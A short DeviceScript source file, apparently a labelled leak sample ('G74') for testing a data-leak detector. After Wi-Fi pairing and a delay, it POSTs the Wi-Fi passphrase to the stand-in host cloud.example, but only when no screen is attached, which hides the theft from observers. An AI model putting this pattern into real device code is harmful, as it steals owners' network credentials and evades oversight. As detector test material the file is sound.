// G74: uploads the passphrase where no screen is plugged in.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const screen = new ds.CharacterScreen();
let isThere = false;
screen.binding().subscribe((bound) => {
  if (bound) isThere = true;
});
paired(async (_ssid, psk) => {
  await ds.delay(20_000);
  const body = isThere ? "screen" : psk;
  const response = await fetch("https://cloud.example/g74", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
